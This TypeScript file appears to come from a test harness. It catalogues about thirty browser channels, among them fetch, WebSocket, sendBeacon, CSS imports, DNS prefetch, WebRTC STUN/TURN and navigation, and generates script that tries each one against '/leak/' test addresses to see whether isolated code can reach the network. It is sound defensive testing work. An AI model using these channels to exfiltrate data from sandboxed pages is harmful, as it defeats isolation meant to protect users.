/** One way by which a program could tell somebody something. */
export interface Way {
  /** The row of the list that names it. */
  readonly row: 55 | 56 | 57;
  readonly name: string;
  /** Statements; `to`, `bare`, `udp` and `name` are addresses. */
  readonly code: string;
  /** It takes the document away: it is tried in one of its own. */
  readonly leaves?: true;
}

const way =
  (row: Way["row"]) =>
  (name: string, code: string): Way => ({ row, name, code });
const calling = way(55);
const loading = way(56);
const document = way(57);

/** What code in a worker can try. */
export const workerWays: readonly Way[] = [
  calling("fetch", "await fetch(to)"),
  calling("fetch-no-cors", "await fetch(to, { mode: 'no-cors' })"),
  calling(
    "xhr",
    "const x = new XMLHttpRequest(); x.open('GET', to); x.send(); await rest()",
  ),
  calling("socket", "new WebSocket(to.replace('http', 'ws')); await rest()"),
  calling(
    "socket-stream",
    "new WebSocketStream(to.replace('http', 'ws')); await rest()",
  ),
  calling("events", "new EventSource(to); await rest()"),
  calling(
    "transport",
    "new WebTransport('https://' + udp).ready.catch(() => {}); await rest()",
  ),
  loading("scripts", "importScripts(to)"),
  loading("import", "await import(to)"),
  loading("worker", "new Worker(to); await rest()"),
  loading("font", "await new FontFace('f', 'url(' + to + ')').load()"),
  loading("wasm", "await WebAssembly.compileStreaming(fetch(to))"),
];

const link = (rel: string, href: string) =>
  `Object.assign(add('link', document.head), { rel: '${rel}', as: 'image', href: ${href} })`;
const peer = (urls: string, more = "") =>
  `const p = new RTCPeerConnection({ iceServers: [{ urls: ${urls}${more} }] }); p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer()); await rest()`;

/** What markup and script in a document can try, too. */
export const documentWays: readonly Way[] = [
  document("image", "new Image().src = to"),
  document("style", "add('div').style.backgroundImage = 'url(' + to + ')'"),
  document(
    "import-rule",
    "add('style').textContent = '@import url(' + to + ')'",
  ),
  ...["stylesheet", "prefetch", "preload"].map((rel) =>
    document(`link-${rel}`, link(rel, "to")),
  ),
  document(
    "link-modulepreload",
    "Object.assign(add('link', document.head), { rel: 'modulepreload', href: to })",
  ),
  document("preconnect", link("preconnect", "bare")),
  document("dns-prefetch", link("dns-prefetch", "name")),
  document("beacon", "navigator.sendBeacon(to)"),
  document("frame", "add('iframe').src = to"),
  document("object", "add('object').data = to"),
  document("video", "add('video').src = to"),
  document("script", "add('script').src = to"),
  document(
    "form",
    "const f = add('form'); f.action = to; f.target = '_blank'; f.submit()",
  ),
  document("popup", "open(to)"),
  document("stun", peer("'stun:' + udp")),
  document(
    "turn",
    peer("'turn:' + udp", ", username: 'the-text', credential: 'x'"),
  ),
  {
    ...document(
      "refresh",
      "Object.assign(add('meta', document.head), { httpEquiv: 'refresh', content: '0; url=' + to }); await rest()",
    ),
    leaves: true,
  },
  {
    ...document("navigation", "location.href = to; await rest()"),
    leaves: true,
  },
];

/** Where everything is heard that is said. */
export interface Addresses {
  readonly origin: string;
  /** An address where a connection alone is heard, for each way. */
  bare(way: string): string;
  /** Host and port that hear UDP, for each way. */
  udp(way: string): string;
}

/** Statements that try ways one after another; to be awaited. */
export function trying(ways: readonly Way[], to: Addresses): string {
  const tries = ways.map(
    ({ name, code }) => `try {
      const to = ${JSON.stringify(`${to.origin}/leak/${name}`)};
      const bare = ${JSON.stringify(to.bare(name))};
      const udp = ${JSON.stringify(to.udp(name))};
      const name = ${JSON.stringify(`http://${name}.leak.test/`)};
      await (async () => { ${code} })();
    } catch {}`,
  );
  return `(async () => {
    const rest = () => new Promise((go) => setTimeout(go, 300));
    const add = (tag, to = document.body ?? document.documentElement) => to.appendChild(document.createElement(tag));
    ${tries.join("\n")}
    await rest();
  })()`;
}
